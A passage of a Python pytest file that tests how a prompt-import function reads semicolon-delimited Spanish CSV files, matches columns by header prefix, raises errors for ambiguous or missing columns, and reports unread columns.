    (tmp_path / "a.csv").write_text(f'"1. País";"{long}";"1. Edad"\nPerú;¿Qué se come en la mañana?;33\n')
    with pytest.raises(SourceError, match=re.escape(long)):
        add_prompts(project, str(tmp_path / "a.csv"))
    with pytest.raises(SourceError, match="no column"):
        add_prompts(project, str(tmp_path / "a.csv"), columns={"prompt": "1."})
    assert len(add_prompts(project, str(tmp_path / "a.csv"), columns={"prompt": "2."}).kept) == 1


def test_a_column_that_is_not_read_is_named(project: Project, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("Consulta;Rubro\n¿Qué se come en la feria del pueblo?;comida\n", encoding="utf-8")
    (notice,) = add_prompts(project, str(path), dry_run=True).notices
    assert notice.startswith('Not read (cells with something in them): "Rubro" (1);')
    assert add_prompts(project, str(path), columns={"topic": "Rubro"}).notices == ()
